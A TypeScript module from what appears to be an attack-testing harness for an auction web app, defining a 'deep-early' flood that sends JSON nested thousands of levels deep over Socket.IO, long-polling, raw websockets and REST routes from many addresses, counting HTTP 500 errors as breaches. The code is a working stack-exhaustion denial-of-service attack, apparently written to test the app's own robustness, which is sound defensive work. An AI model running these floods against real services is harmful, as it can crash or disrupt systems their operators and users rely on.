import type { Attack } from '../attacker/attack.ts';
import { HttpClient } from '../attacker/http.ts';
import { openSocketIo, POLLING_PATH } from '../attacker/socketIo.ts';
import { PLACE } from '../place.ts';
import { type Flood, given } from './flood.ts';

/** Enough for what walks a value on a deep stack; and as many as fit into a frame, for what walks it on a shallow one. */
const LEVELS = [5_200, 8_000] as const;
const PAYLOADS = LEVELS.map((levels) => `{"a":${'['.repeat(levels)}${']'.repeat(levels)}}`);
const OPAQUE_TOKEN = '0123456789'.repeat(4);
const SEPARATOR = '\u001e';
const ADDRESSES = 200;
const PER_SECOND = 20;
const REST_EVERY_MS = 50;

/** Payloads that nest thousands deep, sent while a token is still being looked up, and as bodies. */
export const deepEarly: Flood = {
  name: 'deep-early',
  title: `payloads ${LEVELS.join(' and ')} levels deep while the token is looked up; REST bodies of the same`,
  run: async (attack) => {
    await Promise.all([byWebSocket(attack), byPolling(attack), byRawSocket(attack), byBody(attack)]);
  },
  breaches: (answers) => given(answers, 'HTTP 500'),
};

function byWebSocket(attack: Attack): Promise<void> {
  let count = 0;
  return attack.pace(attack.scaled(PER_SECOND), () => {
    count += 1;
    const token = count % 2 === 0 ? OPAQUE_TOKEN : attack.tokenOf(PLACE.attack.account);
    openSocketIo(attack, count % ADDRESSES, (socket) => {
      socket.send(`40{"token":"${token}"}`);
      socket.send(`42["x",${deepPayload(count >> 1)}]`);
    });
    return true;
  });
}

function byPolling(attack: Attack): Promise<void> {
  let count = 0;
  return attack.pace(attack.scaled(PER_SECOND), () => {
    count += 1;
    void poll(attack, count % ADDRESSES, deepPayload(count));
    return true;
  });
}

async function poll(attack: Attack, address: number, payload: string): Promise<void> {
  const client = new HttpClient(attack, address);
  const opened = await client.ask(POLLING_PATH);
  const sid = /"sid":"([^"]+)"/.exec(opened)?.[1];
  if (sid !== undefined) {
    const body = `40{"token":"${OPAQUE_TOKEN}"}${SEPARATOR}42["x",${payload}]`;
    const headers = { 'Content-Type': 'text/plain;charset=UTF-8' };
    await client.ask(`${POLLING_PATH}&sid=${sid}`, { method: 'POST', headers, body });
  }
  client.close();
}

function byRawSocket(attack: Attack): Promise<void> {
  const paths = ['/ws/', `/ws/auction/${PLACE.attack.auction}/`, `/ws/ring/${PLACE.attack.ring}/`] as const;
  let count = 0;
  return attack.pace(attack.scaled(PER_SECOND), () => {
    count += 1;
    attack.openAs(PLACE.attack.account, paths[count % paths.length] ?? '/ws/', count % ADDRESSES, {
      opened: (socket) => socket.send(`{"type":"comment","data":${deepPayload(count)}}`),
    });
    return true;
  });
}

/** To routes with a token of a seller, with one of a buyer, and without any. */
async function byBody(attack: Attack): Promise<void> {
  const client = new HttpClient(attack, ADDRESSES);
  const bodies = [
    ['/api/auctions/', PLACE.host],
    ['/api/auctions/', PLACE.attack.account],
    ['/auth/otp', null],
    ['/auth/refresh', null],
  ] as const;
  let count = 0;
  await attack.repeat(REST_EVERY_MS, async () => {
    count += 1;
    for (const [path, userId] of bodies) {
      const authorization = userId === null ? {} : { Authorization: `Token ${attack.tokenOf(userId)}` };
      const headers = { 'Content-Type': 'application/json', ...authorization };
      await client.ask(path, { method: 'POST', headers, body: deepPayload(count) });
    }
  });
  client.close();
}

function deepPayload(count: number): string {
  return PAYLOADS[count % PAYLOADS.length] ?? '';
}
